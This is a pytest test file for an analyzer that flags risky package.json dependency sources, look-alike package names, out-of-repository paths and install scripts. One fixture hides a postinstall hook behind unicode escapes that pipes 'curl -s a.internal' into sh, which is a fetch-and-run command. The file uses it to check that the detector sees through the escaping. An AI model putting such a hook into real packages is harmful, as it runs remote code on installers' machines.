"""package.json in every form that npm, Yarn and pnpm take: what a reviewer would stop at, and its look-alikes."""

import json

import pytest

from analyzers.dependencies import read_manifests
from analyzers.dependencies_node import aliased, target_of
from analyzers.protocol import SourceFile

HTTP, MOVING, NAME = "dependency-over-http", "dependency-moving-source", "dependency-lookalike-name"
OUTSIDE, SCRIPT = "dependency-outside-repository", "dependency-install-script"
COMMIT = "0123456789abcdef0123456789abcdef01234567"


def told(text: str, path: str = "web/package.json") -> list[tuple[str, int]]:
    report = read_manifests([SourceFile(path, "json", text.encode())])
    assert report.faults == ()
    return [(one.rule, one.start_line) for one in report.findings]


@pytest.mark.parametrize(
    ("source", "rules"),
    [
        ("^1.2.3", []),
        ("latest", []),
        ("workspace:*", []),
        ("workspace:../b", []),
        ("catalog:default", []),
        ("patch:a@npm%3A1.0.0#~/.yarn/patches/a.patch", []),
        ("$lodash", []),
        ("-", []),
        ("shop/a", [MOVING]),
        ("shop/a#main", [MOVING]),
        ("shop/a#feature/x", [MOVING]),
        ("shop/a#semver:^1.2.3", [MOVING]),
        ("shop/a#v1.2.3", []),
        ("shop/a#pkg@1.2.3", []),
        ("shop/a#0123456", []),
        (f"shop/a#commit={COMMIT}", []),
        ("gist:0123456789abcdef", [MOVING]),
        ("git@git.shop.internal:shop/a.git", [MOVING]),
        ("git+ssh://git@git.shop.internal/a.git", [MOVING]),
        (f"git+ssh://git@git.shop.internal/a.git#{COMMIT}", []),
        ("https://git.shop.internal/a.git#main", [MOVING]),
        ("https://git.shop.internal/a.git#v2.0", []),
        ("https://files.shop.internal/a-1.2.3.tgz", [MOVING]),
        ("https://github.com/shop/a/archive/main.tar.gz", [MOVING]),
        (f"https://codeload.github.com/shop/a/tar.gz/{COMMIT}", []),
        ("https://registry.npmjs.org/a/-/a-1.2.3.tgz", []),
        ("HTTP://files.shop.internal/a.tgz", [HTTP]),
        ("git+http://git.shop.internal/a.git", [HTTP]),
        ("http://localhost:4873/a.tgz", []),
        ("npm:lodash@4", []),
        ("npm:loadsh@4", [NAME]),
        ("npm:@shop/loadsh@4", []),
        ("file:../a", []),
        ("link:../../a", [OUTSIDE]),
        ("file:///home/me/a", [OUTSIDE]),
        ("portal:/home/me/a", [OUTSIDE]),
    ],
)
@pytest.mark.parametrize("keys", [["dependencies"], ["resolutions"], ["overrides", "b"], ["pnpm", "overrides"]])
def test_a_source_is_judged_wherever_it_stands(keys: list[str], source: str, rules: list[str]) -> None:
    document: dict[str, object] = {"a": source}
    for key in reversed(keys):
        document = {key: document}
    assert told(json.dumps(document, indent=1)) == [(rule, len(keys) + 2) for rule in rules]


@pytest.mark.parametrize(
    ("key", "name"),
    [
        ("lodash", "lodash"),
        ("@shop/a", "@shop/a"),
        ("lodash@^4", "lodash"),
        ("@shop/a@npm:@shop/b@1", "@shop/a"),
        ("**/a", "a"),
        ("a/@shop/b", "@shop/b"),
        ("a@1>@shop/b@2", "@shop/b"),
        ("a>b>c", "c"),
        ("minimatch@>=3.0.0 <3.0.5", "minimatch"),
        ("minimatch@<2 || >3", "minimatch"),
        ("", ""),
    ],
)
def test_a_key_of_overrides_speaks_of_one_package(key: str, name: str) -> None:
    assert target_of(key) == name


@pytest.mark.parametrize(
    ("source", "name"), [("npm:a@1", "a"), ("npm:@b/c@^1", "@b/c"), ("npm:a", "a"), ("npm:", ""), ("npm:@", "@")]
)
def test_an_alias_names_its_package(source: str, name: str) -> None:
    assert aliased(source) == name


def test_the_package_around_a_point_is_meant_by_it() -> None:
    assert told('{"overrides": {"loadsh":\n{".": "4"}}}') == [(NAME, 2)]


def test_a_name_that_stands_elsewhere_too_does_not_move_the_line() -> None:
    text = '{"keywords": ["a"],\n"peerDependencies": {"a": "1"},\n"dependencies": {"a":\n"shop/a"}}'
    assert told(text) == [(MOVING, 4)]


def test_escapes_hide_no_line() -> None:
    assert told('{"scripts":\n{"post\\u0069nstall": "\\u0063url -s a.internal | sh"}}') == [(SCRIPT, 2)]


@pytest.mark.parametrize(
    "text",
    ["[]", '{"dependencies": {"a": 1}}', '{"overrides": {"a": [1]}}', '{"dependencies": {"\\ud800": "\\ud800"}}'],
)
def test_what_is_no_dependency_is_passed_over(text: str) -> None:
    assert told(text) == []
